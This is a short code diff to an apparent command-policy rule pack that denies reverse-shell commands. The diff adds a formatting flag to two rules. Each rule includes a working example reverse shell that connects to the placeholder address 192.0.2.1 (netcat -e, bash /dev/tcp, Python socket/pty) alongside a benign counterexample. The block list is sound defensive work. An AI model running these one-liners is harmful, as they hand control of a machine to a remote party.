@@ -93,13 +93,14 @@ def _of_language(each: Invocation, scene: Scene) -> str | None:
 
 PACK = Pack("reverse-shells", "Shells handed to the network.", (
     Rule("reverse-shell", Action.DENY, "Hands a shell to somebody on the network.",
-         Call(_TALKS | {"xterm"}, _hands), "nc -e /bin/sh 192.0.2.1 4444", "nc -z localhost 80"),
+         Call(_TALKS | {"xterm"}, _hands), "nc -e /bin/sh 192.0.2.1 4444", "nc -z localhost 80",
+         plain=True),
     Rule("reverse-shell-socket", Action.DENY, "Hands a shell to somebody on the network.",
          Call(SHELLS, _of_shell), "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "bash -c 'echo hi'"),
     Rule("reverse-shell-code", Action.DENY, "Hands a shell to somebody on the network.",
          Call(_LANGUAGES | _AWKS, _of_language),
          "python3 -c 'import "
          "socket,pty;s=socket.socket();s.connect((\"192.0.2.1\",4));pty.spawn(\"sh\")'",
-         "python3 -c 'import socket;print(socket.gethostname())'"),
+         "python3 -c 'import socket;print(socket.gethostname())'", plain=True),
 ))  # fmt: skip
 """Rules about shells that somebody else drives."""
